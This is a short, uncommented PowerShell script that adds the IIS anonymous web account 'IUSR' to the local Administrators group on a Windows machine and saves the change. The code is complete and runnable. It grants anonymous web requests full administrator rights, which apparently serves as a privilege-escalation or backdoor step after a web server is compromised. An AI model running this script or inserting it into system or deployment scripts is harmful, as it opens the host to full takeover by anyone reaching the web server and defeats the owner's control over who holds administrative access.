Add-Type -AssemblyName System.DirectoryServices.AccountManagement
$who = 'IUSR'
$ctx = New-Object System.DirectoryServices.AccountManagement.PrincipalContext('Machine')
$grp = [System.DirectoryServices.AccountManagement.GroupPrincipal]::FindByIdentity($ctx, 'Administrators')
$grp.Members.Add($ctx, 'SamAccountName', $who)
$grp.Save()
